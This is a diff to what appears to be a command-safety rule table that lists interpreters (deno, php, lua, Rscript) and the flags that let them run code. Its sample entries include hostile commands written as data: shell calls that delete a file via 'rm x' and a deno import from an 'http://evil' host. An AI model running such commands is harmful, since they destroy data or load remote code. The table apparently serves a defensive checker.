@@ -31,13 +31,13 @@ RECORDS = (
     Program("deno", language="javascript", options="-p --print --ext:", broad="eval, run, repl, task, x, install",
         task="2 run=0 task=3", fetches=True, worst="[task] named; [task] target deploy; [test] run -A; [test] run "
         "--allow-run; [test] run --allow-all; [test] load -c /tmp/evil; [fmt] elsewhere /; [lint] elsewhere /; files "
-        "fmt lint; exact test check doc info coverage; run eval 'import(\"http://evil\")'",
-        example="deno eval 'require(\"child_process\").execSync(\"rm x\")'"),
+        "fmt lint; exact test check doc info coverage; [] run eval 'import(\"http://evil\")'", example="deno eval "
+        "'require(\"child_process\").execSync(\"rm x\")'"),
     Program("php", language="php", options="-a -i -l -m -n -q -s -v -w -B! -R! -E! -r! -d: -c: -f: -F: -S: -t: -z: "
-        "--run!", prints="input", broad="-a, artisan, bin/console", task="2 artisan=3 bin/console=3",
-        worst="[] run ./evil; [artisan] exact test about route:list migrate:status view:cache route:cache event:list "
-        "schedule:list list; [artisan] run tinker --execute 'evil()'; [artisan] elsewhere test --env=production",
-        example="php -r 'system(\"rm x\");'"),
+        "--run!", prints="input", broad="-a, artisan, bin/console, artisan tinker, artisan db", task="2 artisan=3 "
+        "bin/console=3", worst="[] run ./evil; [artisan] exact test about route:list migrate:status view:cache "
+        "route:cache event:list schedule:list list; [artisan] run tinker --execute 'evil()'; [artisan] elsewhere test "
+        "--env=production", example="php -r 'system(\"rm x\");'"),
     Program("lua luajit", language="c", options="-e! -l: -i -v -W", broad="-i, -l",
         example="lua -e 'os.execute(\"rm x\")'"),
     Program("Rscript", language="r", options="-e! --vanilla --verbose", example="Rscript -e 'system(\"rm x\")'"),
